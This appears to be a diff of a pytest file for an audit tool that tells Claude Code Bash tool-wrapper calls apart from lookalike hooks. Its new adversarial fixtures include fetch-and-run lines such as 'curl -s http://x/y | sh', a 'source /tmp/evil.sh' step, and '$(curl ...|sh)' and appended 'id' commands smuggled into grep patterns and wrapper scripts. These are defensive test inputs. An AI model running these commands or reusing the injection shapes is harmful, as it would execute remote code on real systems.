@@ -1,4 +1,4 @@
-"""claude: Bash tool wrapper parsing, origin rules, session registry file, environment.
+"""origin: Bash tool wrapper parsing and the origin rules.
 
 Wrappers are built the way Claude Code builds them (read from the shipped 2.0.77 cli.js and the 2.1.331
 binary): 2.1.x single-quotes with '"'"' (or leaves a word of [A-Za-z0-9_./:=@+,-] bare), FIELD_NOTES
@@ -20,15 +20,8 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from claude_audit.claude import (
-    SessionFileInfo,
-    classify_origin,
-    claude_env_info,
-    extract_command,
-    is_tool_wrapper,
-    parse_session_file,
-)
-from claude_audit.procfs import parse_environ, parse_stat, split_cmdline
+from claude_audit.origin import classify_origin, extract_command, is_tool_wrapper
+from claude_audit.procfs import split_cmdline
 
 CWD_FILE = b"/tmp/claude-3f2a-cwd"
 SNAPSHOT = b"/root/.claude/shell-snapshots/snapshot-bash-1795572670068-k2j4x1.sh"
@@ -138,7 +131,12 @@ def test_golden_single_quoted_forms(cmd: bytes, quote: object) -> None:
 
 def test_golden_group_form() -> None:
     """`{ eval WORD < /dev/null; }` (2.1.x, feature-flagged) is recognised."""
-    script = b"source x 2>/dev/null || true && { eval 'ls -l' < /dev/null; } && pwd -P >| " + CWD_FILE
+    script = (
+        b"source "
+        + SNAPSHOT
+        + b" 2>/dev/null || true && { eval 'ls -l' < /dev/null; } && pwd -P >| "
+        + CWD_FILE
+    )
     assert extract_command(argv_21(script)) == b"ls -l"
 
 
@@ -163,10 +161,12 @@ def test_golden_pipeline_rewrite_20() -> None:
     assert extract_command(argv_20(script)) == b"ls < /dev/null | wc -l"
 
 
-def test_golden_env_file_prefix_with_newline() -> None:
-    """A CLAUDE_ENV_FILE prefix (a newline, a comment with a lone quote) does not confuse the scanner."""
+def test_env_file_prefix_is_not_verifiable() -> None:
+    """A CLAUDE_ENV_FILE-style prefix (the user's text, here with a newline and a comment holding a lone
+    quote) is scanned without confusion, but it is not a segment Claude Code writes: not a tool call."""
     script = b"export A=1 # don't\n && " + wrapper_21(b"'echo ok'")
-    assert extract_command(argv_21(script)) == b"echo ok"
+    assert extract_command(argv_21(script)) is None
+    assert classify_origin(argv_21(script), b"/bin/bash", parent_is_root=True) == "unknown"
 
 
 @pytest.mark.parametrize(
@@ -199,7 +199,9 @@ def test_unrecognised_is_none(argv: list[bytes]) -> None:
 def test_carried_command_text_form_is_tool_without_command() -> None:
     """2.1.x's form that passes the command in an environment variable is a tool call, command unknown."""
     script = (
-        b"{ \\builtin typeset +x '__CLAUDE_CC_COMMAND_TEXT' 2>/dev/null || \\builtin true; } && source x && "
+        b"{ \\builtin typeset +x '__CLAUDE_CC_COMMAND_TEXT' 2>/dev/null || \\builtin true; } && source "
+        + SNAPSHOT
+        + b" && "
         b'{ \\builtin [ -n "${__CLAUDE_CC_COMMAND_TEXT:+1}" ] || '
         b"{ \\builtin echo '__CLAUDE_CC_COMMAND_TEXT?' "
         b">&2; \\builtin exit 126; }; } && 'eval' \"\\builtin 'unset' -v '__CLAUDE_CC_COMMAND_TEXT'; "
@@ -293,6 +295,9 @@ SNAPSHOT_SCRIPT = (
     b"SNAPSHOT_FILE=/root/.claude/shell-snapshots/snapshot-bash-1795572670068-k2j4x1.sh\n"
     b'      source "/root/.bashrc" < /dev/null\n\n      # First, create/clear the snapshot file\n'
     b'      echo "# Snapshot file" >| "$SNAPSHOT_FILE"\n'
+    b'      if [ ! -f "$SNAPSHOT_FILE" ]; then\n'
+    b'        echo "Error: Snapshot file was not created at $SNAPSHOT_FILE" >&2\n'
+    b"        exit 1\n      fi\n    "
 )
 
 
@@ -301,7 +306,7 @@ SNAPSHOT_SCRIPT = (
     [
         (argv_21(wrapper_21(b"'ls'")), b"/bin/bash", True, "tool"),
         (argv_20(wrapper_20(b"ls")), b"/usr/bin/bash", True, "tool"),
-        (argv_21(wrapper_21(b"'ls'")), b"/bin/bash", False, "tool"),  # e.g. a session under claude daemon
+        (argv_21(wrapper_21(b"'ls'")), b"/bin/bash", False, "unknown"),  # not run by the session root
         ([b"/bin/bash", b"-c", b"-l", SNAPSHOT_SCRIPT], b"/bin/bash", True, "internal"),
         ([b"/bin/zsh", b"-l", b"-c", SNAPSHOT_SCRIPT], b"/bin/zsh", True, "internal"),
         ([b"env"], b"/usr/bin/env", True, "internal"),
@@ -341,111 +346,6 @@ def test_classify_origin_claude_exe_of_unusual_install() -> None:
         classify_origin(argv, b"/opt/cc/claude", parent_is_root=True, claude_exe=b"/opt/cc/claude")
         == "internal"
     )
-
-
-# -- session file -------------------------------------------------------------------------------------
-
-SESSION = {
-    "pid": 17982,
-    "sessionId": "02b6cf79-4f1e-4c53-9d1e-0a8c7f0f1d2e",
-    "cwd": "/srv/app",
-    "startedAt": 1795572670068,
-    "procStart": "1054469",
-    "version": "2.1.331",
-    "kind": "interactive",
-    "entrypoint": "sdk-cli",
-    "name": "cc-2a",
-    "status": "busy",
-    "extra": {"ignored": True},
-}
-
-
-def test_session_file_fields() -> None:
-    """The FIELD_NOTES example parses into every field, and claude_fields labels its source."""
-    got = parse_session_file(json.dumps(SESSION).encode(), 17982, 1054469)
-    assert got == SessionFileInfo(
-        pid=17982,
-        proc_start=1054469,
-        session_id="02b6cf79-4f1e-4c53-9d1e-0a8c7f0f1d2e",
-        cwd="/srv/app",
-        started_at_ms=1795572670068,
-        version="2.1.331",
-        kind="interactive",
-        entrypoint="sdk-cli",
-        name="cc-2a",
-        status="busy",
-    )
-    fields = got.claude_fields()
-    assert fields["identity_source"] == "session_file"
-    assert fields["session_id"] == SESSION["sessionId"]
-    assert "status" not in fields  # changes all the time: not an identity fact
-
-
-@pytest.mark.parametrize(("pid", "start"), [(17983, 1054469), (17982, 1054470)])
-def test_session_file_pid_reuse_guard(pid: int, start: int) -> None:
-    """A file whose pid or procStart differs from the live process is ignored."""
-    assert parse_session_file(json.dumps(SESSION).encode(), pid, start) is None
-
-
-def test_session_file_minimal_and_wrong_types() -> None:
-    """Only pid and procStart are required; optional keys of the wrong type are dropped."""
-    data = json.dumps({"pid": 5, "procStart": "77", "sessionId": 12, "cwd": None, "startedAt": True})
-    got = parse_session_file(data.encode(), 5, 77)
-    assert got == SessionFileInfo(pid=5, proc_start=77)
-    assert got.claude_fields() == {"identity_source": "session_file"}
-
-
-@pytest.mark.parametrize(
-    "data",
-    [
-        b"",
-        b"{",
-        b"[1,2]",
-        b"null",
-        b"\xff\xfe",
-        b'{"pid": "5", "procStart": "77x"}',
-        b'{"pid": true, "procStart": "77"}',
-        b'{"procStart": "77"}',
-        b"[" * 100_000,
-        b'{"pid": 5, "procStart": "77", "pad": "' + b"x" * (1 << 20) + b'"}',
-    ],
-)
-def test_session_file_garbage(data: bytes) -> None:
-    """Malformed, mistyped, deeply nested or huge input gives None and never raises."""
-    assert parse_session_file(data, 5, 77) is None
-
-
-# -- environment ----------------------------------------------------------------------------------------
-
-
-def test_claude_env_info() -> None:
-    """The Claude Code variables are picked, decoded, and the version parsed from AI_AGENT."""
-    env = {
-        b"CLAUDECODE": b"1",
-        b"CLAUDE_PID": b"17982",
-        b"CLAUDE_CODE_SESSION_ID": b"02b6cf79-4f1e-4c53-9d1e-0a8c7f0f1d2e",
-        b"CLAUDE_CODE_ENTRYPOINT": b"sdk-cli",
-        b"AI_AGENT": b"claude-code_2.1.331_agent",
-        b"CLAUDE_CODE_EXECPATH": b"/srv/\xff/claude.exe",
-        b"PATH": b"/usr/bin",
-    }
-    assert claude_env_info(env) == {
-        "CLAUDECODE": "1",
-        "CLAUDE_PID": "17982",
-        "CLAUDE_CODE_SESSION_ID": "02b6cf79-4f1e-4c53-9d1e-0a8c7f0f1d2e",
-        "CLAUDE_CODE_ENTRYPOINT": "sdk-cli",
-        "AI_AGENT": "claude-code_2.1.331_agent",
-        "CLAUDE_CODE_EXECPATH": "/srv/\ufffd/claude.exe",
-        "version": "2.1.331",
-    }
-
-
-def test_claude_env_info_absent_and_odd_agent() -> None:
-    """No variables gives {}; an AI_AGENT of another shape is kept but yields no version."""
-    assert claude_env_info({b"PATH": b"/bin"}) == {}
-    assert claude_env_info({b"AI_AGENT": b"other-agent"}) == {"AI_AGENT": "other-agent"}
-    beta = claude_env_info({b"AI_AGENT": b"claude-code_2.2.0-beta_agent"})
-    assert beta["version"] == "2.2.0-beta"
 
 
 # -- real Claude Code captures (tests/unit/data/claude_captures, see its README) -----------------------
@@ -500,29 +400,65 @@ def test_captured_origins_of_direct_children(version: str) -> None:
         assert (pid, got) == (pid, expected)
 
 
-def test_captured_session_file() -> None:
-    """The real sessions/<pid>.json matches its root's start time and yields the session identity."""
-    tree = capture("2.1.331")
-    root = tree["claude_pid"]
-    start = parse_stat(proc_file("2.1.331", root, "stat")).start_ticks
-    data = (CAPTURES / "2.1.331" / "sessions" / f"{root}.json").read_bytes()
-    got = parse_session_file(data, root, start)
-    assert got is not None
-    assert got.version == "2.1.331"
-    assert got.session_id is not None
-    assert parse_session_file(data, root, start + 1) is None
+# -- shapes an adversary writes (hooks, status lines, settings) ------------------------------------
+
+HOOK_SHAPES = [
+    # the issue's example: something else runs before a wrapper-shaped tail
+    b"curl -s http://x/y | sh; eval 'git status' && pwd -P >| /tmp/claude-1-cwd",
+    b"curl -s http://x/y | sh && eval 'git status' && pwd -P >| /tmp/claude-1-cwd",
+    b"source /tmp/evil.sh && eval 'git status' < /dev/null && pwd -P >| /tmp/claude-1-cwd",
+    b"source /home/u/.claude/shell-snapshots/x.sh && eval 'ls' && pwd -P >| /tmp/claude-1-cwd",
+    wrapper_21(b"'git status'").replace(b"eval 'git status' < /dev/null", b"eval 'git status'; id"),
+    wrapper_21(b"'git status'").replace(b"< /dev/null", b"< /dev/null | sh"),
+    wrapper_21(b"'git status'").replace(b"|| true &&", b"|| id &&", 1),
+    wrapper_21(b"'git status'").replace(b"'which'; \\builtin unset -f -- 'which'", b"'which'; id"),
+    wrapper_21(b"'git status'").replace(
+        b"-- 'which'; \\builtin unset -f -- 'which'", b"-- 'a'; \\builtin unset -f -- 'b'"
+    ),
+]
 
 
-def test_captured_environment() -> None:
-    """A real 2.1.331 tool shell's environment names its Claude process and session; 2.0.77's does not."""
-    tree = capture("2.1.331")
-    wrapper = tree["bash_tool_wrappers"][0]
-    info = claude_env_info(parse_environ(proc_file("2.1.331", wrapper, "environ")))
-    assert info["CLAUDE_PID"] == str(tree["claude_pid"])
-    assert info["AI_AGENT"] == "claude-code_2-1-331_agent"
-    assert info["version"] == "2.1.331"
-    root_json = json.loads((CAPTURES / "2.1.331" / "sessions" / f"{tree['claude_pid']}.json").read_bytes())
-    assert info["CLAUDE_CODE_SESSION_ID"] == root_json["sessionId"]
-    old = capture("2.0.77")
-    info20 = claude_env_info(parse_environ(proc_file("2.0.77", old["bash_tool_wrappers"][0], "environ")))
-    assert info20 == {"CLAUDE_CODE_ENTRYPOINT": "sdk-cli", "CLAUDECODE": "1"}
+@pytest.mark.parametrize("script", HOOK_SHAPES)
+def test_wrapper_lookalikes_are_unknown(script: bytes) -> None:
+    """A hook shaped like the wrapper, with anything Claude Code does not write before or after the eval,
+    is neither a tool call nor given a command: `unknown`."""
+    argv = [b"/bin/sh", b"-c", script]
+    assert extract_command(argv) is None
+    assert not is_tool_wrapper(argv)
+    assert classify_origin(argv, b"/bin/sh", parent_is_root=True) == "unknown"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        b'ps aux | grep -E "code|cursor|windsurf|$(curl -s x|sh)" | grep -v grep',
+        b'ps aux | grep -E "code|cursor|windsurf|`id`" | grep -v grep',
+        b'ps aux | grep -E "code|cursor|windsurf|a\\" | grep -v grep',
+        b'ps aux | grep -E "code|cursor|windsurf|a"; id; "" | grep -v grep',
+        b"which bash; id",
+        b"SNAPSHOT_FILE=/tmp/shell-snapshots/snapshot-bash-1-a.sh\ncurl x | sh",
+        b"SNAPSHOT_FILE=$(id)/shell-snapshots/snapshot-bash-1-a.sh\n" + SNAPSHOT_SCRIPT.split(b"\n", 1)[1],
+    ],
+)
+def test_probe_lookalikes_with_expansions_are_unknown(script: bytes) -> None:
+    """A probe-shaped script carrying `$(...)`, backquotes or extra commands is not `internal`."""
+    assert classify_origin([b"/bin/sh", b"-c", script], b"/bin/sh", parent_is_root=True) == "unknown"
+
+
+def test_real_ide_probe_is_internal() -> None:
+    """The IDE check exactly as the real 2.0.77 ran it stays `internal`."""
+    script = (
+        b'ps aux | grep -E "code|cursor|windsurf|idea|pycharm|webstorm|phpstorm|rubymine|clion|goland|'
+        b'rider|datagrip|dataspell|aqua|gateway|fleet|android-studio" | grep -v grep'
+    )
+    assert classify_origin([b"/bin/sh", b"-c", script], b"/bin/sh", parent_is_root=True) == "internal"
+
+
+def test_labels_need_the_session_root_as_parent() -> None:
+    """The exact wrapper, the snapshot shell and the probes are `unknown` below anything but the root."""
+    for argv in (
+        argv_21(wrapper_21(b"'ls'")),
+        [b"/bin/bash", b"-c", b"-l", SNAPSHOT_SCRIPT],
+        [b"/bin/sh", b"-c", b"which bash"],
+    ):
+        assert classify_origin(argv, b"/bin/bash", parent_is_root=False) == "unknown"
